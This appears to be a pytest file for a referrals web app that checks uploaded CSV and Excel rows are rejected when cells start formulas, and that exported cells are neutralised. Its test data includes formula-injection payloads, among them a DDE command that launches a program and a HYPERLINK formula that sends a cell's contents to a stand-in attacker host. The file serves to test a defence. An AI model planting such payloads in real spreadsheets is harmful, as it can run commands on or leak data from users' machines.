"""Formulas: 2,000 cells of them, none worked out, none live; and none leaves in what is taken."""

import io

import pytest
from openpyxl import Workbook

from community.core.sheets import FORMULA, cell
from referrals.exchange.services import read_file
from referrals.models import Referral, WaitingRow
from tests.factories.exchange import HEADINGS, bring, row

pytestmark = pytest.mark.django_db

FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd"),
    *("+1+1", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(1)", "=WEBSERVICE(1)", "\t=1", "\r=1"),
]
COLUMNS = ("child_name", "zip_code", "concerns", "parent_name")


def test_two_thousand_formula_cells_of_a_csv_file_are_named_and_none_is_live(clinic):
    rows = [
        row(number, **{column: FORMULAS[(number + place) % 10] for place, column in enumerate(COLUMNS)})
        for number in range(500)
    ]
    brought = bring(clinic, rows)
    assert brought.rows_wrong == 500
    said = [error for waiting in WaitingRow.objects.all() for error in waiting.told["errors"]]
    assert len(said) == 2_000
    assert all("starts a formula" in words for _column, words in said)
    assert not Referral.objects.exists()


def test_formula_cells_of_a_workbook_are_not_worked_out(clinic):
    book = Workbook()
    book.active.append(HEADINGS)
    told = row(1, child_name="=1+1", parent_name='=HYPERLINK("http://x","Rosa")')
    book.active.append([told.get(heading, "") for heading in HEADINGS])
    content = io.BytesIO()
    book.save(content)
    brought = read_file(content, by=clinic, size=content.tell())
    (waiting,) = WaitingRow.objects.all()
    assert brought.rows_wrong == 1
    assert [column for column, _words in waiting.told["errors"]] == ["child_name", "parent_name"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_leaves_begins_with_no_sign_of_a_formula(formula):
    assert not cell(formula).startswith(FORMULA)
